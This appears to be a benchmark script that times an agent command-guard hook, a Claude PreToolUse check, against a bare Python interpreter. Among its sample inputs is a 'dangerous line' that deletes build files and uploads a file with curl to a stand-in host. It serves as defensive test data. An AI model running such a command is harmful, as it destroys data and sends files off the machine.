"""The guard: CPU of one hook call over CPU of a bare interpreter of the same virtual environment.

On an empty store, and on one of 1,400 tools with an override for a program of the line.
"""

from __future__ import annotations

import json
import os
import pathlib
import resource
import subprocess
import sys
import tempfile

from benchmarks.bench_startup import fill_store
from benchmarks.measure import ratio, report

LINES = (
    ("a simple read", "git status --porcelain"),
    (
        "a list with pipes",
        "git log --oneline -n 5 | head && rg -n 'def main' src | sort -u | wc -l",
    ),
    (
        "a dangerous line",
        "cd build && find . -name '*.o' -exec rm -f {} + ; curl -T out https://h.example/",
    ),
)
BAR = 4.0
OVERRIDE = {"commands": {"push": {"effects": {"destructive": True}}}}


def cpu(argv: list[str], env: dict[str, str], given: bytes = b"") -> float:
    """CPU seconds of one command that reads `given`."""
    before = resource.getrusage(resource.RUSAGE_CHILDREN)
    subprocess.run(argv, input=given, stdout=subprocess.DEVNULL, env=env, check=True)
    after = resource.getrusage(resource.RUSAGE_CHILDREN)
    return after.ru_utime + after.ru_stime - before.ru_utime - before.ru_stime


def main() -> bool:
    with tempfile.TemporaryDirectory() as empty, tempfile.TemporaryDirectory() as full:
        fill_store(full, 1400)
        overrides = pathlib.Path(full, ".config", "agent-tools", "overrides")
        overrides.mkdir(parents=True)
        (overrides / "git.json").write_text(json.dumps(OVERRIDE))
        return all([measure(empty, "empty store"), measure(full, "1,400 tools")])


def measure(home: str, store: str) -> bool:
    """Every line in one home; whether all bars are met."""
    python = sys.executable
    command = str(pathlib.Path(python).parent / "atip")
    env = {name: value for name, value in os.environ.items() if not name.startswith("XDG_")}
    env["HOME"] = home
    # an installation has its bytecode; a fresh checkout gets it with the first call
    env.pop("PYTHONDONTWRITEBYTECODE", None)
    good = True
    for name, line in LINES:
        asked = {
            "tool_name": "Bash",
            "hook_event_name": "PreToolUse",
            "cwd": home,
            "tool_input": {"command": line},
        }
        given = json.dumps(asked).encode()
        measured = ratio(
            lambda given=given: cpu([command, "guard", "--for", "claude"], env, given),
            lambda: cpu([python, "-c", "pass"], env),
            rounds=15,
        )
        good &= report(f"atip guard on {name}, {store} / bare python", measured, BAR)
    return good


if __name__ == "__main__":
    raise SystemExit(not main())
